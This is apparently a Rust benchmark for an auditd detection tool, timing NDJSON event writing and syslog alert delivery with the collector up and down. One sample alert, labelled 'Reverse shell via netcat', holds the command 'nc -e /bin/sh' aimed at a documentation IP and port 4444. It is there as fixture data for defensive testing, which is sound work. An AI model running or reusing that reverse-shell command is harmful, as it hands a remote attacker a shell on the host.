//! Costs on the detection worker's thread: writing events as NDJSON (plain and rotating), and
//! `SyslogSink::send` with the collector up (a unix datagram socket read by a thread) and down
//! (frames overflow to the disk spool).
//!
//! `cargo bench --bench delivery`. Under `cargo test --all-targets` (no `--bench` argument) it
//! runs a quick smoke pass with 1/100 of the work.

use auditwatch::event::Event;
use auditwatch::output::ndjson::{NdjsonWriter, Rotation};
use auditwatch::output::syslog::{SyslogConfig, SyslogSink, SyslogTarget};
use serde_json::json;
use std::os::unix::net::UnixDatagram;
use std::time::{Duration, Instant};

fn event(i: i64) -> Event {
    let mut ev = Event::new(1_714_557_600_000 + i);
    ev.push("@timestamp", "2024-05-01T10:00:00.000Z");
    ev.push("event.kind", "event");
    ev.push("event.category", vec!["process".to_owned()]);
    ev.push("event.type", vec!["start".to_owned()]);
    ev.push("event.action", "executed");
    ev.push("event.module", "auditd");
    ev.push("event.sequence", i);
    ev.push("process.pid", 4242i64);
    ev.push("process.executable", "/usr/bin/curl");
    ev.push(
        "process.args",
        vec![
            "curl".to_owned(),
            "-s".to_owned(),
            "https://example.invalid/x".to_owned(),
        ],
    );
    ev.push("process.parent.pid", 4200i64);
    ev.push("process.working_directory", "/home/alice");
    ev.push("user.id", "1000");
    ev.push("user.name", "alice");
    ev.push("host.name", "web-01");
    ev.push("auditd.data.syscall", "execve");
    ev.push("auditd.data.a0", "55d2c3a8e0a0");
    ev.push("auditd.summary.actor.primary", "alice");
    ev.push("auditd.summary.how", "/usr/bin/curl");
    ev
}

fn per_sec(n: usize, d: Duration) -> f64 {
    n as f64 / d.as_secs_f64()
}

fn ndjson(dir: &std::path::Path, scale: usize) {
    let events: Vec<Event> = (0..1000).map(event).collect();
    let n = 300_000 / scale;
    let mut plain = NdjsonWriter::new(Box::new(std::io::sink()));
    let t = Instant::now();
    for i in 0..n {
        plain.write_event(&events[i % 1000]).unwrap();
    }
    let plain_rate = per_sec(n, t.elapsed());
    let path = dir.join("events.ndjson");
    let mut rot = NdjsonWriter::open_rotating(
        &path,
        Rotation {
            max_size_bytes: 64 << 20,
            keep_files: 2,
            permissions: 0o600,
        },
    )
    .unwrap();
    let t = Instant::now();
    for i in 0..n {
        rot.write_event(&events[i % 1000]).unwrap();
    }
    rot.flush().unwrap();
    let rot_rate = per_sec(n, t.elapsed());
    println!(
        "ndjson: {plain_rate:.0} events/s to a null sink, {rot_rate:.0} events/s to a rotating file ({} rotations), ratio {:.2}",
        rot.stats().rotations,
        rot_rate / plain_rate
    );
}

fn alert(i: usize) -> serde_json::Value {
    json!({
        "@timestamp": "2024-05-01T10:00:00.000Z",
        "kibana.alert.uuid": format!("alert-{i}"),
        "kibana.alert.rule.rule_id": "f1e2d3c4-0000-4000-8000-000000000001",
        "kibana.alert.rule.name": "Reverse shell via netcat",
        "kibana.alert.severity": "high",
        "kibana.alert.risk_score": 73,
        "event": {"kind": "signal", "module": "auditd", "category": ["process"], "action": "executed"},
        "process": {"pid": 4242, "executable": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"]},
        "user": {"id": "33", "name": "www-data"},
        "host": {"name": "web-01"}
    })
}

fn syslog_up(dir: &std::path::Path, scale: usize) {
    let sock = dir.join("log");
    let rx = UnixDatagram::bind(&sock).unwrap();
    let n = 50_000 / scale;
    let reader = std::thread::spawn(move || {
        let mut buf = vec![0u8; 65536];
        for _ in 0..n {
            rx.recv(&mut buf).unwrap();
        }
    });
    let cfg = SyslogConfig::new(SyslogTarget::Unix(sock));
    let s = SyslogSink::new(cfg, None).unwrap();
    let t = Instant::now();
    for i in 0..n {
        s.send(&alert(i));
    }
    let queued = t.elapsed();
    assert!(s.flush(Duration::from_secs(60)));
    let delivered = t.elapsed();
    reader.join().unwrap();
    println!(
        "syslog up (unix dgram): send() {:.1} us/alert, {:.0} alerts/s delivered, sent {}",
        queued.as_secs_f64() * 1e6 / n as f64,
        per_sec(n, delivered),
        s.stats().sent
    );
}

fn syslog_down(dir: &std::path::Path, scale: usize) {
    let mut cfg = SyslogConfig::new(SyslogTarget::Unix(dir.join("missing")));
    cfg.queue_capacity = 256;
    let s = SyslogSink::new(cfg, Some(dir.join("spool"))).unwrap();
    let n = 50_000 / scale;
    let t = Instant::now();
    for i in 0..n {
        s.send(&alert(i));
    }
    let d = t.elapsed();
    std::thread::sleep(Duration::from_millis(300));
    let st = s.stats();
    println!(
        "syslog down (disk spool): send() {:.1} us/alert; queued {} + spooled {} = {} of {n}, spool {} KiB",
        d.as_secs_f64() * 1e6 / n as f64,
        st.queued,
        st.spooled,
        st.queued + st.spooled,
        st.spool_bytes >> 10
    );
    s.close(Duration::from_millis(10));
}

fn main() {
    let dir = std::env::temp_dir().join(format!("aw-bench-delivery-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let scale = if std::env::args().any(|a| a == "--bench") {
        1
    } else {
        100
    };
    ndjson(&dir, scale);
    syslog_up(&dir, scale);
    syslog_down(&dir, scale);
    std::fs::remove_dir_all(&dir).unwrap();
}
